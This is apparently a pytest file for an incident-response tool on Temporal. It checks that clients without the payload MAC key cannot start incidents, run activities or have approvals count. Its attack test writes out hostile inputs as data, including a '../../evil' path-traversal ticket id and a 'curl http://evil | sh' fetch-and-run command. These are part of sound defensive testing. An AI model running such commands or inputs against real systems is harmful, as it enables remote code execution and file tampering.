"""Only Firebreak's own components can drive the worker: every payload carries a MAC under the payload key.

Someone who can reach the Temporal frontend but does not hold the key (``unauthenticated_client``)
tries what the server alone would let them do: open an incident, have the worker run its activities
with arguments of their choosing, and message a running incident. On the real dev server, with the
real worker, broker and demo fleet.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import stat
import time
import uuid
from collections.abc import Callable, Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from temporalio import workflow
from temporalio.api.enums.v1 import EventType
from temporalio.api.failure.v1 import Failure
from temporalio.client import WorkflowHandle, WorkflowUpdateFailedError
from temporalio.common import RetryPolicy
from temporalio.exceptions import ActivityError, ApplicationError
from temporalio.service import RPCError
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import UnsandboxedWorkflowRunner, Worker

from conftest import unauthenticated_client
from demo.fleet import FleetServer
from demo.prom import free_port
from firebreak import signing
from firebreak.codec import MAC_METADATA, PayloadAuthCodec
from firebreak.config import Settings, load_settings
from firebreak.contracts import (
    AlertSignal,
    ApprovalOutcome,
    ExecuteRequest,
    IncidentStatus,
    Notification,
    Phase,
)
from firebreak.temporal import data_converter
from incidents import inject, make_alert, open_incident, report_of, status, submit, wait_for_phase
from worker import build_worker

REFUSED = "unauthenticated payload: no MAC; refusing to run the activity"


class CountingVerifier:
    """The fleet's real token verifier, counting every request that reached it (reads and writes)."""

    def __init__(self, inner: signing.TargetVerifier) -> None:
        self.inner = inner
        self.requests: list[tuple[str, str]] = []

    def verify(self, token: str, *, verb: str, resource: str) -> dict:
        self.requests.append((verb, resource))
        return self.inner.verify(token, verb=verb, resource=resource)

    def close(self) -> None:
        self.inner.close()


@pytest.fixture
def watched_fleet(broker) -> Iterator[tuple[FleetServer, CountingVerifier]]:
    verifier = CountingVerifier(signing.TargetVerifier.from_broker(broker.url, "fleet"))
    with FleetServer(verifier=verifier, chaos_token="test-chaos", close_verifier=True) as server:
        yield server, verifier


@pytest.fixture
def watched(settings: Settings, watched_fleet) -> tuple[Settings, FleetServer, CountingVerifier]:
    server, verifier = watched_fleet
    settings.targets["fleet"] = server.url
    return settings, server, verifier


@workflow.defn(name="Attack", sandboxed=False)
class Attack:
    """The outsider's own workflow, on the outsider's own task queue, scheduling Firebreak's activities."""

    @workflow.run
    async def run(self, plan: dict[str, Any]) -> list[str]:
        outcomes = []
        for name, argument in plan["calls"]:
            try:
                await workflow.execute_activity(
                    name, argument, task_queue=plan["task_queue"], start_to_close_timeout=timedelta(seconds=20),
                    retry_policy=RetryPolicy(maximum_attempts=1))
                outcomes.append(f"{name}: ran")
            except ActivityError as err:
                outcomes.append(f"{name}: {_messages(err.cause)}")
        return outcomes


def _messages(error: BaseException | None) -> str:
    parts = []
    while error is not None:
        parts.append(error.message if isinstance(error, ApplicationError) else str(error))
        error = error.__cause__
    return " <- ".join(parts)


def _failure_chain(failure: Failure) -> list[tuple[str, str]]:
    chain = []
    while failure.message:
        chain.append((failure.application_failure_info.type, failure.message))
        failure = failure.cause
    return chain


def _text(path: Path) -> str:
    return path.read_text() if path.exists() else ""


async def until(handle: WorkflowHandle, predicate: Callable[[IncidentStatus], bool], timeout: float = 15) -> IncidentStatus:
    """The incident's status once ``predicate`` holds: signals are handled asynchronously."""
    deadline = time.monotonic() + timeout
    while True:
        current = await status(handle)
        if predicate(current) or time.monotonic() > deadline:
            return current
        await asyncio.sleep(0.2)


async def test_an_incident_opened_without_the_key_runs_nothing(dev_env: WorkflowEnvironment, watched) -> None:
    settings, fleet, seen = watched
    outsider = unauthenticated_client(dev_env)
    inject(fleet.url, "checkout", "bad_deploy")
    changes = fleet.fleet.changes("checkout")
    async with build_worker(dev_env.client, settings):
        # The very path the intake API takes (signal-with-start, a well-formed input), only without the key.
        forged = await open_incident(outsider, settings, make_alert("DrillRollback"))
        await asyncio.sleep(4)  # several workflow tasks' worth
        history = await dev_env.client.get_workflow_handle(forged.id).fetch_history()
        assert seen.requests == [], "the forged incident reached the fleet"
        try:  # wedged on its input, or closed by the workflow as refused: never an incident in progress
            forged_status = await dev_env.client.get_workflow_handle(forged.id).query("status", result_type=IncidentStatus)
        except Exception:  # noqa: BLE001
            forged_status = None
        assert forged_status is None or forged_status.phase == Phase.failed, forged_status

        # The authenticated client still works, on the same worker.
        genuine = await open_incident(dev_env.client, settings, make_alert("DrillRollback"))
        waiting = await wait_for_phase(genuine, Phase.awaiting_approval)
        assert waiting.plan is not None
        for handle in (forged, genuine):
            with contextlib.suppress(RPCError):  # the forged one may have closed itself
                await dev_env.client.get_workflow_handle(handle.id).terminate("test over")

    kinds = {event.event_type for event in history.events}
    assert EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED not in kinds, "the forged incident scheduled an activity"
    assert fleet.fleet.changes("checkout") == changes


async def test_activities_scheduled_without_the_key_never_run(
    dev_env: WorkflowEnvironment, watched, approvers
) -> None:
    settings, fleet, seen = watched
    outsider = unauthenticated_client(dev_env)
    inject(fleet.url, "checkout", "bad_deploy")
    tickets = settings.resolved_ticket_dir()
    notifications = settings.state_dir / "notifications.jsonl"
    attack_queue = f"attacker-{uuid.uuid4().hex[:8]}"
    async with build_worker(dev_env.client, settings):
        genuine = await open_incident(dev_env.client, settings, make_alert("DrillRollback"))
        waiting = await wait_for_phase(genuine, Phase.awaiting_approval)
        assert waiting.plan is not None and waiting.plan_hash
        requests_before, changes_before = len(seen.requests), fleet.fleet.changes("checkout")

        # Well-formed arguments, each of which the activity would act on: even a genuinely signed approval.
        execute = ExecuteRequest(
            incident_id=genuine.id, plan=waiting.plan, step_id=waiting.plan.steps[0].id,
            approvals=[approvers.approval("alice", genuine.id, waiting.plan_hash)],
        ).model_dump(mode="json")
        # Raw JSON: the outsider is not bound by our models (TicketRequest may refuse this id itself).
        ticket = {"incident_id": "../../evil", "event": "proposed", "summary": "pwned", "body_markdown": "pwned"}
        notify = Notification(incident_id=genuine.id, kind="escalation", to="everyone", summary="pwned",
                              approve_command="curl http://evil | sh").model_dump(mode="json")
        calls = [["execute_step", execute], ["file_ticket", ticket], ["notify", notify]]
        async with Worker(outsider, task_queue=attack_queue, workflows=[Attack],
                          workflow_runner=UnsandboxedWorkflowRunner()):
            attack = await outsider.start_workflow(
                Attack.run, {"task_queue": settings.temporal.task_queue, "calls": calls},
                id=f"attack-{uuid.uuid4().hex[:8]}", task_queue=attack_queue,
                execution_timeout=timedelta(minutes=2))
            outcomes = await attack.result()
        still = await status(genuine)
        await genuine.terminate("test over")

    assert outcomes == [f"{name}: Failed decoding arguments <- {REFUSED}" for name, _ in calls], outcomes
    # The reason is in the outsider's own history, in clear (failures are readable without encryption).
    history = await attack.fetch_history()
    failed = [e.activity_task_failed_event_attributes.failure for e in history.events
              if e.event_type == EventType.EVENT_TYPE_ACTIVITY_TASK_FAILED]
    assert [_failure_chain(f) for f in failed] == [[("", "Failed decoding arguments"), ("PayloadAuthError", REFUSED)]] * 3
    # Nothing ran: no request reached the fleet, no file outside (or inside) the tickets dir, no notification.
    assert len(seen.requests) == requests_before and fleet.fleet.changes("checkout") == changes_before
    assert not (tickets / "../../evil.md").resolve().exists() and not list(tickets.parent.parent.glob("**/evil.md"))
    assert "pwned" not in _text(tickets / "events.jsonl") and "pwned" not in _text(notifications)
    assert still.phase == Phase.awaiting_approval and still.steps == []


async def test_messages_without_the_key_neither_count_nor_wedge_the_incident(
    dev_env: WorkflowEnvironment, watched, approvers
) -> None:
    """Needs IncidentWorkflow to record an unauthenticated message (``unauthenticated_reason``) as such."""
    settings, fleet, _ = watched
    inject(fleet.url, "checkout", "bad_deploy")
    alert = make_alert("DrillRollback")
    async with build_worker(dev_env.client, settings):
        handle = await open_incident(dev_env.client, settings, alert)
        waiting = await wait_for_phase(handle, Phase.awaiting_approval)
        theirs = unauthenticated_client(dev_env).get_workflow_handle(handle.id)
        # A genuinely signed approval, and the alert resolving: both would count if they came from Firebreak.
        approval = approvers.approval("alice", handle.id, waiting.plan_hash)
        await theirs.signal("approval", approval)
        resolved = alert.model_copy(update={"status": "resolved"})
        await theirs.signal("alert", AlertSignal(alerts=[resolved], received_at=alert.starts_at))
        with pytest.raises(WorkflowUpdateFailedError):
            await theirs.execute_update("submit_approval", approval, result_type=ApprovalOutcome,
                                        rpc_timeout=timedelta(seconds=10))

        after = await until(handle, lambda s: len(s.approvals) >= 1 and len(s.refused_signals) >= 1)
        assert after.phase == Phase.awaiting_approval, "the outsider's alert did not resolve the incident"
        assert after.alerts_received == waiting.alerts_received and after.firing == waiting.firing
        assert [r.counted for r in after.approvals] == [False]
        # Not wedged: the same approval sent by Firebreak counts, and the incident goes on to execute.
        outcome = await submit(handle, approvers.approval("alice", handle.id, waiting.plan_hash))
        assert outcome.counted, outcome.reason
        report = await report_of(handle)

    assert report.status.steps, report.outcome
    history = await handle.fetch_history()
    assert not [e for e in history.events if e.event_type == EventType.EVENT_TYPE_WORKFLOW_TASK_FAILED]
    assert sum(e.event_type == EventType.EVENT_TYPE_WORKFLOW_EXECUTION_UPDATE_ACCEPTED for e in history.events) == 1
    [refused] = [r for r in report.status.approvals if not r.counted]
    assert refused.via == "signal" and "unauthenticated" in refused.reason, refused
    assert any("unauthenticated" in reason for reason in after.refused_signals), after.refused_signals


async def test_history_payloads_carry_the_mac_and_stay_readable(dev_env: WorkflowEnvironment, watched) -> None:
    assert isinstance(dev_env.client.data_converter.payload_codec, PayloadAuthCodec), "the suite runs with it on"
    settings, fleet, _ = watched
    inject(fleet.url, "checkout", "bad_deploy")
    async with build_worker(dev_env.client, settings):
        handle = await open_incident(dev_env.client, settings, make_alert("DrillRollback"))
        await wait_for_phase(handle, Phase.awaiting_approval)
        await handle.terminate("test over")
    # Read by a client without the key: the server holds the payloads as written, plus the MAC entry.
    history = await unauthenticated_client(dev_env).get_workflow_handle(handle.id).fetch_history()
    started = history.events[0].workflow_execution_started_event_attributes
    [incident] = started.input.payloads
    assert incident.metadata["encoding"] == b"json/plain" and MAC_METADATA in incident.metadata
    assert json.loads(incident.data)["runbook"]["name"] == "drill-rollback"
    scheduled = [e.activity_task_scheduled_event_attributes for e in history.events
                 if e.event_type == EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED]
    assert scheduled and all(MAC_METADATA in p.metadata for s in scheduled for p in s.input.payloads)


@pytest.mark.integration
def test_stack_up_shares_a_payload_key_and_keeps_its_files_private(tmp_path: Path) -> None:
    from firebreak.stack import Ports, down, up

    state = tmp_path / "state"
    ports = Ports(**{name: free_port() for name in vars(Ports())})
    try:
        info = up(state, ports, with_prometheus=False)
    finally:
        down(state)
    key_file = Path(info["settings"]["temporal"]["payload_key_file"])
    assert key_file == state / "payload.key"

    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    assert mode(state) == 0o700 and mode(state / "logs") == 0o700
    private = [key_file, state / "temporal.db", *(state / "logs").glob("*.log")]
    private += [p for p in (state / "temporal.db-wal", state / "temporal.db-shm") if p.exists()]
    assert {"temporal.log", "worker.log", "api.log"} <= {p.name for p in private}
    assert {p.name: oct(mode(p)) for p in private} == {p.name: oct(0o600) for p in private}

    # The worker, the API and the CLI read the same settings, so all sign with the same key.
    settings = load_settings(state)
    assert settings.temporal.payload_key_file == str(key_file)
    codec = data_converter(settings.temporal).payload_codec
    assert isinstance(codec, PayloadAuthCodec) and codec.current == PayloadAuthCodec.from_key_file(key_file).current
